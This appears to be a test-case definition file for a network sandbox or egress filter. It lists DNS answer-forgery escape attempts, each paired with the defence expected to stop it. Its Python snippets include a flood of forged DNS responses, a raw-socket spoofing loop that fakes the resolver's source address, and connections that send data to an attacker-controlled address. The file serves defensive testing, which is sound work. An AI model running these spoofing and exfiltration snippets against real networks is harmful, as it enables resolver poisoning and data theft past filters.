import type { Row } from '../case.ts'
import { python } from './script.ts'

const lies = [
  ['beside', 'record of another name in the answer'],
  ['extra', 'record for the name among the additional ones'],
  ['id', 'answer under another transaction id'],
  ['question', 'answer to another question'],
  ['source', 'answer from another address'],
  ['twice', 'second answer under the same id'],
] as const

/** Lets a name be asked for that the resolver lies about, then goes to the address of the lie. */
const afterLie = (name: string): string =>
  python(`
import subprocess
subprocess.run(['getent', 'ahostsv4', '${name}'.replace('HEX', os.environ['HEX4']).replace('TOKEN', 'x' + T[1:])], check=False)
s = made()
s.connect((D4, 443 if T[2] == 'a' else PORT))
s.sendall(DATA)`)

export const answers: Row = {
  row: 4,
  title: 'Forged answers',
  cases: [
    ...lies.map(([how, what]) => ({
      id: `answer-${how}`,
      technique: `${what}, then a connect to its address`,
      attempt: afterLie(`${how}-HEX.TOKEN.allow.example.com`),
      by: 'names: ignored, opens nothing',
    })),
    {
      id: 'answer-from-the-job',
      technique:
        'forged answers from the job itself to every port of the machine while a query is under way',
      attempt: python(`
import threading
stop = False
def forge():
    s = made(kind=socket.SOCK_DGRAM)
    target = socket.inet_aton(D4)
    answer = (struct.pack('!HHHHHH', 0, 0x8180, 1, 1, 0, 0) + name_wire('good.example.com') + b'\\0\\1\\0\\1'
              + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\1\\0\\0\\4' + target)
    for port in range(32768, 61000, 3):
        for to in ('127.0.0.1', '192.0.2.2'):
            try: s.sendto(answer, (to, port))
            except OSError: pass
threading.Thread(target=forge).start()
for _ in range(20):
    try: ask(query('good.example.com'))
    except OSError: pass
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: answers count from the server that was asked only',
    },
    {
      id: 'answer-from-outside',
      technique: 'forged answers from the network, with the resolver’s address',
      // The forger floods while it is asked, and not the other cases' records.
      attempt: python(`
says, hears = os.environ['SHARED'] + '/asks.' + T, os.environ['SHARED'] + '/forges.' + T
open(says, 'w').close()
while not os.path.exists(hears): time.sleep(0.02)
for _ in range(40):
    try: ask(query('good.example.com'))
    except OSError: pass
    time.sleep(0.02)
os.unlink(says)
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      internet: python(`
import itertools
says, hears = os.environ['SHARED'] + '/asks.' + T, os.environ['SHARED'] + '/forges.' + T
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
answer = (struct.pack('!HHHHH', 0x8180, 1, 1, 0, 0) + name_wire('good.example.com') + b'\\0\\1\\0\\1'
          + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\1\\0\\0\\4' + socket.inet_aton(D4))
print('ready', file=sys.stderr, flush=True)
while not os.path.exists(says): time.sleep(0.02)
open(hears, 'w').close()
for port in itertools.cycle(range(32768, 61000)):
    message = os.urandom(2) + answer
    data = struct.pack('!HHHH', 53, port, 8 + len(message), 0) + message
    try: s.sendto(packet4('192.0.2.2', data, source='192.0.2.54'), ('192.0.2.2', 0))
    except OSError: pass
    if port % 64 == 0:
        time.sleep(0.002)
        if not os.path.exists(says): break`),
      twin: python(`ask(query(HOST))`),
      by: 'names: id and port of each query are random',
    },
    {
      id: 'answer-learned-from-other',
      technique: 'allowed name asked at the thief’s own server, which answers with its address',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.sendto(query('good.example.com'), (D4, 53))
s.recv(512)
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: the proxy asks the machine’s own resolvers only',
    },
  ],
}
